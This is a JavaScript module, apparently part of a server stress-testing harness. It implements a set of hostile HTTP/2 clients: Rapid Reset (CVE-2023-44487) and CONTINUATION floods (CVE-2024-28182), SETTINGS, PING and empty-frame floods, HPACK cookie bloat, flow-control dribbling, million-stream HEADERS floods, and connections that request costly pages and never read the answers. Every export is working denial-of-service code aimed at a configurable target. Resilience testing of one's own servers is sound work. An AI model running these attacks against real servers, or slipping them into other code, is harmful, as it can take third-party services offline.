// Hostile peers of HTTP/2.
import {randomBytes, randomInt} from 'node:crypto';
import {again, COOKIE, END_HEADERS, END_STREAM, field, FIRST_KEPT, frame, head, heads, number, opening, PADDED, request, reset, settings, type, widen} from '../http2_frames.mjs';
import {sleep} from '../peer.mjs';
import {h2, pieces, pour, unique} from './connection.mjs';

// Twenty megabytes, more than sockets hold, so that the server's writing waits.
const unreadAnswers = (target) => Buffer.concat([opening(), heads(99, target.middle)]);

// Much is asked for and nothing read, then this half is closed while the server's writing waits.
export const half_close = (target, signal) => h2(target, async (peer) => {
    await peer.write(unreadAnswers(target));
    await sleep(500, signal);
    peer.halfClose();
    await sleep(500, signal);
});

// The same, ended in every other way.
export const broken_off = (target, signal, turn) => h2(target, async (peer) => {
    await peer.write(unreadAnswers(target));
    await sleep(300, signal);
    const endings = [
        () => peer.reset(),
        () => peer.write(frame(type.DATA, 0, 0, Buffer.alloc(100))),  // a connection error
        () => peer.write(Buffer.concat([frame(type.GOAWAY, 0, 0, Buffer.concat([number(0), number(0)]))])),
        () => peer.socket.end(),  // close_notify, then FIN
        () => peer.write(Buffer.concat(Array.from({length: 99}, (_, i) => reset(1 + 2 * i)))),
        () => peer.write(settings([[4, 0]])),  // windows that were given are taken back
        () => peer.write(settings([[5, 1]])),  // a frame size that may not be
        () => peer.raw.write('in the clear, in the midst of TLS'),
    ];
    await endings[turn % endings.length]();
    await sleep(300, signal);
});

// Cookies in hundreds of fields of one byte, which HPACK makes one byte on the wire; the streams stay.
export const cookie_crumbs = (target, signal) => h2(target, async (peer) => {
    const STREAMS = 95, CRUMBS = 390;
    const kept = Array.from({length: CRUMBS}, () => again(FIRST_KEPT));
    await peer.write(Buffer.concat([opening({window: 0}), head(1, target.story, {more: [field(COOKIE, 'a', {kept: true}), ...kept.slice(1)]}),
        heads(STREAMS - 1, target.story, {first: 3, more: kept})]));
    peer.read();
    await peer.hold(8000, signal);
});

// Frames that cost their sender little.
export const settings_flood = (target, signal) => h2(target, async (peer) => {
    await peer.write(opening());
    await pour(peer, Buffer.concat(Array.from({length: 200}, (_, i) => settings([[1, i % 2 ? 0 : 4096], [3, 100], [4, 65535 - i]]))), 1 << 20, 2000, signal);
});

export const ping_flood = (target, signal) => h2(target, async (peer) => {
    await peer.write(opening());
    await pour(peer, Buffer.concat(Array.from({length: 500}, () => frame(type.PING, 0, 0, randomBytes(8)))), 1 << 20, 2000, signal);
});

export const empty_frames = (target, signal, turn) => h2(target, async (peer) => {
    const padded = Buffer.alloc(80);
    padded[0] = 79;
    const floods = [
        frame(type.DATA, 0, 1),
        frame(type.DATA, PADDED, 1, padded),  // nothing but padding
        frame(type.PRIORITY, 0, 1, Buffer.from([0, 0, 0, 3, 16])),
        frame(0xfa, 0, 0),  // of no known type
        frame(0xfa, 0, 1, Buffer.alloc(100)),
        widen(1, 1),
        widen(0, 1),
    ];
    await peer.write(Buffer.concat([opening(), head(1, target.story, {method: 'POST', open: true})]));
    await pour(peer, Buffer.concat(Array(500).fill(floods[turn % floods.length])), 1 << 20, 2000, signal);
});

// Requests that are taken back at once (CVE-2023-44487).
export const rapid_reset = (target, signal) => h2(target, async (peer) => {
    await peer.write(opening());
    peer.read();
    for (let i = 0; i < 20 && !peer.gone && !signal.aborted; i++)
        await peer.write(Buffer.concat(Array.from({length: 100}, (_, k) => {
            const stream = 1 + 2 * (100 * i + k);
            return Buffer.concat([head(stream, `/search?q=${unique()}`), reset(stream)]);
        })));
});

// Streams beyond those allowed, by somebody who never acknowledges what is allowed and reads no refusal.
export const refused_streams = (target, signal) => h2(target, async (peer) => {
    await peer.write(Buffer.concat([opening({window: 0, acknowledge: false}), heads(100, target.story)]));
    for (const part of pieces(streamsBeyond(), 1 << 20)) if (signal.aborted || !await peer.write(part)) break;
    await sleep(500, signal);
});

// One byte more may be sent, and again, and again.
export const window_dribble = (target, signal) => h2(target, async (peer) => {
    const STREAMS = 50;
    await peer.write(Buffer.concat([opening({window: 0}), heads(STREAMS, target.picture)]));
    peer.read();
    for (let i = 0; i < 1000 && !peer.gone && !signal.aborted; i++) {
        await peer.write(widen(1 + 2 * (i % STREAMS), 1));
        await sleep(10, signal);
    }
});

// A head in very many pieces, that never ends or is far too large (CVE-2024-28182).
export const continuations = (target, signal, turn) => h2(target, async (peer) => {
    const pieces = [Buffer.alloc(0), Buffer.from([0x82]), field('x', 'y'.repeat(100)), Buffer.concat(Array(1000).fill(field(COOKIE, 'z')))];
    await peer.write(Buffer.concat([opening(), frame(type.HEADERS, END_STREAM, 1, request(target.story))]));
    peer.read();
    const piece = pieces[turn % pieces.length];
    await pour(peer, Buffer.concat(Array(piece.length > 100 ? 2 : 100).fill(frame(type.CONTINUATION, 0, 1, piece))), 1 << 20, 2000, signal);
    await peer.hold(1000, signal);
});

// Answers that are each made anew, asked for by a hundred and taken by none.
export const unread_answers = (target, signal, turn) => h2(target, async (peer) => {
    const asked = [
        () => `/search?q=${encodeURIComponent('في')}&page=${1 + randomInt(20)}`,
        () => `/wp-json/wp/v2/posts?per_page=100&page=${1 + randomInt(5)}`,
        () => `/${unique()}`,
        () => '/feed/rss.xml',
        () => target.large,
    ];
    await peer.write(Buffer.concat([opening({window: 0}), heads(99, asked[turn % asked.length])]));
    peer.read();
    await peer.hold(10_000, signal);
});

// The heads of a million streams, each of a single field.
let beyond;
function streamsBeyond() {
    if (beyond) return beyond;
    const one = frame(type.HEADERS, END_HEADERS | END_STREAM, 0, Buffer.from([0x82])), COUNT = 1_000_000;
    beyond = Buffer.alloc(one.length * COUNT);
    for (let i = 0; i < COUNT; i++) {
        one.writeUInt32BE(201 + 2 * i, 5);
        one.copy(beyond, i * one.length);
    }
    return beyond;
}
